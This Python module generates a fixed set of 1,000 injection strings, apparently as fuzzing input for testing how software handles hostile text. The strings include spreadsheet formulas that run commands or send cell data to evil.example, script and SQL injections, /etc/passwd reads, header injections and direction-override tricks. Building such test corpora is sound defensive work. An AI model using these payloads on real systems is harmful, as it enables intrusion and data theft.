"""A thousand strings that some program would run, believe or break on. Made from parts, the same every time."""

import random
from collections.abc import Iterator
from itertools import product

HOW_MANY = 1_000
SEED = 20261122

FORMULAS = (
    "cmd|' /C calc'!A0", 'HYPERLINK("http://evil.example/?"&A1,"open")', "1+1", "SUM(A1:A9)*cmd|' /C calc'!A0",
    'WEBSERVICE("http://evil.example/"&B2)', 'IMPORTXML("http://evil.example","//a")', 'DDE("cmd";"/C calc";"a")',
)  # fmt: skip  # a list is read as a list, not as a column
STARTS = (
    "=",
    "+",
    "-",
    "@",
    "\t=",
    "\r=",
    "\n=",
    " =",
    "\0=",
    "＝",
    "＋",
    "－",
    "＠",
    "'=",
    '"=',
    ";=",
    ",=",
    "\ufeff=",
    "\u200b=",
    "\xad=",
    "\u2800=",
    "\u034f=",
    "\u200d=",
    "\ufe66",
)
HTML = (
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<a href='javascript:alert(1)'>x</a>",
    "</title><svg/onload=alert(1)>", "&lt;b&gt; &amp; &#x3c;", "<!--", "]]>", "<?xml version='1.0'?>", "{{7*7}}",
    "${7*7}", "<tg-spoiler>x</tg-spoiler>", '<a href="tg://user?id=1">x</a>',
)  # fmt: skip  # a list is read as a list, not as a column
MARKDOWN = (
    "[x](http://evil.example)", "![x](http://evil.example/p.png)", "*bold* _under_ `code`", "# Title", "> quote",
    "```\ncode\n```", "||hidden||", "| a | b |\n|---|---|", "- [ ] box", "[x](tg://user?id=1)",
)  # fmt: skip  # a list is read as a list, not as a column
TYPST = (
    '#read("/etc/passwd")', "#panic()", "]#panic()[", '#import "@preview/x:1.0.0"', "$ x^2 $", "= Title",
    "@ref <label>",
    "#set page(width: 1pt)", "\\u{41}", '#link("http://evil.example")[x]', "#{while true {}}", "//comment", "/* open",
)  # fmt: skip  # a list is read as a list, not as a column
HEADERS = (
    "x\r\nBcc: evil@evil.example", "x\nSubject: other", "x\r\n\r\n<html>", "=?utf-8?b?PGI+?=", "x%0d%0aSet-Cookie: a=b",
    "x\rContent-Type: text/html", "x\u2028To: evil@evil.example", "\r\n.\r\nMAIL FROM:<a@b>", "x\x0bBcc: a@b.example",
)  # fmt: skip  # a list is read as a list, not as a column
DIRECTIONS = (
    "\u202etxt.exe", "\u2066hidden\u2069", "\u200fabc\u200e", "a\u061cb", "\u202d123\u202c", "\u2067\u2067\u2067open",
)  # fmt: skip  # a list is read as a list, not as a column
UNSEEN = (
    "a\u200bb", "a\u200cb\u200dc", "\ufeffstart", "a\u00adb", "a\u2060b", "a\U000e0041b", "e\u0301\u0301\u0301\u0301",
    "\ufffe", "\uffff", "a\u034fb",
)  # fmt: skip  # a list is read as a list, not as a column
CONTROLS = tuple(f"a{chr(code)}b" for code in (*range(32), 0x7F, 0x80, 0x85, 0x9B, 0x9F, 0x2028, 0x2029))
BREAKERS = (
    '"', '""', '"}', '","injected":"yes', "'", "\\", '\\"', "\\u0000", "]}", "{", '"\r\n"x","y"', ",,,,", ";;;;",
    "\x1b[2J\x1b]0;x\x07",
    "'; DROP TABLE cases;--", "../../etc/passwd", "C:\\con", "%s%n%x", "{alias}", "{0.__class__}", "NaN",
    "1e999", "null",
    "/JS (app.alert(1))", "/Launch /URI (http://evil.example)", "(unbalanced \\) paren", "endstream endobj",
    "%PDF-1.7", "%%EOF",
    "http://evil.example/", "file:///etc/passwd", "javascript:alert(1)", "age1qqqqqqqq",
    "-----BEGIN AGE ENCRYPTED FILE-----",
)  # fmt: skip  # a list is read as a list, not as a column
LONG = (
    "A" * 5_000,
    "あ" * 3_000,
    "=" * 3_000,
    "\n" * 500 + "x",
    "\u202e" * 500 + "x",
    "(" * 2_000,
    "a " * 2_500,
    "e" + "\u0301" * 2_000,
)

FAMILIES = (
    tuple(start + formula for start, formula in product(STARTS, FORMULAS)),
    *(HTML, MARKDOWN, TYPST, HEADERS, DIRECTIONS, UNSEEN, CONTROLS, BREAKERS),
)


def injections() -> tuple[str, ...]:
    """Return ``HOW_MANY`` strings, each only once: every part alone, then parts put together."""
    found: dict[str, None] = {}
    for text in _made():
        found[text] = None
        if len(found) == HOW_MANY:
            break
    return tuple(found)


def _made() -> Iterator[str]:
    yield from LONG
    for family in FAMILIES:
        yield from family
    chance = random.Random(SEED)
    while True:
        first, second = (chance.choice(chance.choice(FAMILIES)) for _ in range(2))
        yield chance.choice(("{0}{1}", "Vi esto. {0}\n{1}", "{1} {0}", "{0}\r\n{1}", "«{0}»;{1}")).format(
            first, second
        )
